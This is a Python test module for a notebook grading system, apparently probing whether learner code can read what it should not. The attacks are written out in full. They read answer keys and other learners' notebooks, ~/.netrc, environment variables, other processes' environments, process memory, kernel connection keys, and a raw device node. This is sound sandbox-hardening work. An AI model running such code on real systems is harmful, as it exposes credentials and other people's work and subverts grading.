"""Attacks that read what is none of the learner's business."""

from tests.grader.attacks import probes
from tests.grader.attacks.attack import FULL_POINTS, Attack

LOOK = """
import glob, os, re
def show(data):
    for found in set(re.findall(rb"SEC" rb"RET-[a-z0-9-]+", data)):
        print(found.decode())
def look(path):
    try:
        with open(path, "rb") as file:
            show(file.read(50_000_000))
    except OSError as error:
        print("refused:", type(error).__name__)
"""

READS = "reading what is kept"
MEMORY = """
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        place, rights = line.split()[:2]
        low, high = (int(end, 16) for end in place.split("-"))
        if rights[0] == "r" and high - low < 1 << 28 and "[v" not in line:
            try:
                memory.seek(low)
                found |= set(re.findall(rb"SEC" rb"RET-[a-z]+-[0-9a-f]{12}", memory.read(high - low)))
            except (OSError, ValueError, OverflowError):
                pass
for one in found:
    print(one.decode())
"""


def _reads(name: str, tries: str, code: str, **more) -> Attack:
    return Attack(name, READS, tries, code=LOOK + code, probe=probes.loot, **more)


ATTACKS = (
    _reads("reads-gradebook", "read the gradebook", 'look("$gradebook")'),
    _reads("reads-source", "read the solved notebook", 'look("$source")'),
    _reads("reads-unseen", "read the instructor's hidden files", 'look("$hidden")'),
    _reads("reads-key", "read the executed key", 'look("$key")'),
    _reads("reads-submission", "read another learner's submission", 'look("$other")'),
    _reads("reads-graded", "read another learner's graded notebook", 'look("$graded")'),
    _reads(
        "runs-solution",
        "execute the instructor's solution in place of the answer",
        """
import json
try:
    for cell in json.load(open("$source"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "total-answer":
            exec("".join(cell["source"]))
except OSError as error:
    print("refused:", type(error).__name__)
""",
        after="total-answer",
        stock=FULL_POINTS,
    ),
    _reads(
        "reads-home",
        "read the home folder and what lies in it",
        """
look("$home/.netrc")
import sys
from pathlib import Path
# Python itself may lie in somebody's home, and nothing else of it
own = [Path(sys.prefix), Path(sys.base_prefix), Path.home()]
for folder in (Path("/root"), Path("/home"), Path.home().parent):
    for path in folder.iterdir() if folder.is_dir() else ():
        if not any(one.is_relative_to(path) for one in own):
            print("LO" + "OT", path)
""",
    ),
    _reads(
        "reads-checkout",
        "read the instructor's programs and what lies beside them",
        """
for name in ("grader/key.py", "nbgrader_config.py", "tests/conftest.py", ".git/HEAD", "assignments"):
    path = "$checkout/" + name
    if os.path.exists(path):
        print("LO" + "OT", path)
""",
    ),
    _reads(
        "reads-environment", "read passwords in the environment", "show(repr(os.environ).encode())"
    ),
    _reads(
        "reads-processes",
        "read other processes' environment and arguments",
        """
for name in ("environ", "cmdline"):
    look("/proc/$victim/" + name)
    for path in glob.glob("/proc/[0-9]*/" + name):
        look(path)
""",
    ),
    _reads("reads-memory", "find what earlier work left in its own memory", MEMORY),
    _reads(
        "walks-everywhere",
        "search every folder where something of others may lie",
        """
for top in $walk:
    for folder, folders, files in os.walk(top):
        folders[:] = [one for one in folders if one not in $skipped][:200]
        for name in files[:200]:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 2_000_000:
                look(path)
""",
    ),
    _reads(
        "reads-kernel-keys",
        "read the keys of other learners' kernels",
        """
for path in glob.glob("$runtime/*.json"):
    look(path)
""",
    ),
    _reads(
        "reads-descriptors",
        "use open files inherited from the process that grades",
        """
for name in os.listdir("/proc/self/fd"):
    try:
        path = os.readlink("/proc/self/fd/" + name)
    except OSError:
        continue
    if path.startswith(("$root", "$checkout")) and not path.startswith(os.getcwd()):
        print("LO" + "OT", path)
""",
    ),
    _reads(
        "reads-raw-devices",
        "make a device file and read the device behind it",
        """
import stat
try:
    os.mknod("device", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    with open("device", "rb") as device:
        print("LO" + "OT", len(device.read(4)))
except OSError as error:
    print("refused:", type(error).__name__)
finally:
    if os.path.lexists("device"):
        os.remove("device")
""",
        root=True,
    ),
)
